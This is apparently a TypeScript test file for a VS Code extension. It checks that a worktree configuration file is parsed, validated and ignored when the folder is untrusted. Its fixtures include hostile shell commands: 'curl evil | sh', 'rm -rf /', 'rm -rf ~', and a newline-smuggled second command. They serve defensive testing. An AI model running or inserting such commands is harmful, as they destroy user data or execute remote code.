import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import {
  ConfigurableSettings,
  parseRepositoryConfig,
  readRepositoryConfig,
  withRepositoryConfig,
} from '../../../../src/model/environment/repositoryConfig';
import { withRepo, writeFiles } from '../../helpers/repo';

const defaults: ConfigurableSettings = {
  postCreateCommand: '',
  preRemoveCommand: '',
  copyFiles: ['.env', '.env.*'],
  updateSubmodules: true,
};

describe('.vscode/plan-worktrees.json', () => {
  it('reads a checked-in file with comments and trailing commas', () =>
    withRepo((repo) => {
      writeFiles(repo.main, {
        '.vscode/plan-worktrees.json': `{
  // Installed once per plan.
  "setupCommand": "npm ci",
  "preRemoveCommand": "docker compose down",
  "copyFiles": [".env", "config/local.json",],
  "updateSubmodules": false,
}`,
      });
      assert.deepStrictEqual(readRepositoryConfig(repo.main), {
        config: {
          setupCommand: 'npm ci',
          preRemoveCommand: 'docker compose down',
          copyFiles: ['.env', 'config/local.json'],
          updateSubmodules: false,
        },
        problems: [],
      });
    }));

  it('is no settings and no problem when there is no file', () =>
    withRepo((repo) => assert.deepStrictEqual(readRepositoryConfig(repo.main), { config: {}, problems: [] })));

  it('leaves out each member that is not what it should be, and says why; keeps the others', () => {
    const read = parseRepositoryConfig(
      JSON.stringify({
        setupCommand: ['rm', '-rf', '/'],
        preRemoveCommand: 'make stop\nrm -rf ~',
        copyFiles: '.env',
        updateSubmodules: 'yes',
        postCreateCommand: 'npm ci',
        worktreeLocation: '/tmp/elsewhere',
      }),
    );
    assert.deepStrictEqual(read.config, {});
    assert.deepStrictEqual(read.problems, [
      '.vscode/plan-worktrees.json: "setupCommand" is not a command (one line of text); left out',
      '.vscode/plan-worktrees.json: "preRemoveCommand" is not a command (one line of text); left out',
      '.vscode/plan-worktrees.json: "copyFiles" is not a list of glob patterns; left out',
      '.vscode/plan-worktrees.json: "updateSubmodules" is not true or false; left out',
      '.vscode/plan-worktrees.json: "postCreateCommand" is not a setting it can hold; left out',
      '.vscode/plan-worktrees.json: "worktreeLocation" is not a setting it can hold; left out',
    ]);
    assert.deepStrictEqual(parseRepositoryConfig('{"setupCommand": "npm ci", "copyFiles": 3}').config, {
      setupCommand: 'npm ci',
    });
  });

  it('gives nothing for a file that is not JSON, not an object, too large, or a symbolic link', () =>
    withRepo((repo) => {
      assert.match(parseRepositoryConfig('{"setupCommand": ').problems[0], /is not valid JSON/);
      assert.deepStrictEqual(parseRepositoryConfig('["npm ci"]'), {
        config: {},
        problems: ['.vscode/plan-worktrees.json is not an object'],
      });
      const file = path.join(repo.main, '.vscode', 'plan-worktrees.json');
      writeFiles(repo.main, { '.vscode/plan-worktrees.json': `{"setupCommand": "${'x'.repeat(70 * 1024)}"}` });
      assert.match(readRepositoryConfig(repo.main).problems[0], /is larger than/);
      fs.rmSync(file);
      writeFiles(repo.root, { 'outside.json': '{"setupCommand": "curl evil | sh"}' });
      fs.symlinkSync(path.join(repo.root, 'outside.json'), file);
      const linked = readRepositoryConfig(repo.main);
      assert.deepStrictEqual(linked.config, {});
      assert.match(linked.problems[0], /is not a regular file/);
    }));

  it("the user's settings win where both say something; the file fills in the rest", () => {
    const file = {
      setupCommand: 'npm ci',
      preRemoveCommand: 'make stop',
      copyFiles: ['.env.local'],
      updateSubmodules: false,
    };
    assert.deepStrictEqual(
      withRepositoryConfig(defaults, { postCreateCommand: 'pnpm install', copyFiles: undefined }, file, true),
      {
        postCreateCommand: 'pnpm install',
        preRemoveCommand: 'make stop',
        copyFiles: ['.env.local'],
        updateSubmodules: false,
      },
    );
    // An empty string the user set is a choice too: no setup command.
    assert.strictEqual(withRepositoryConfig(defaults, { postCreateCommand: '' }, file, true).postCreateCommand, '');
    assert.deepStrictEqual(withRepositoryConfig(defaults, {}, {}, true), defaults);
  });

  it('names no program and no file while the folder is not trusted', () => {
    const file = {
      setupCommand: 'curl evil | sh',
      preRemoveCommand: 'rm -rf ~',
      copyFiles: ['**'],
      updateSubmodules: true,
    };
    assert.deepStrictEqual(withRepositoryConfig(defaults, {}, file, false), defaults);
    assert.deepStrictEqual(withRepositoryConfig(defaults, { preRemoveCommand: 'mine' }, file, false), {
      ...defaults,
      preRemoveCommand: 'mine',
    });
  });
});
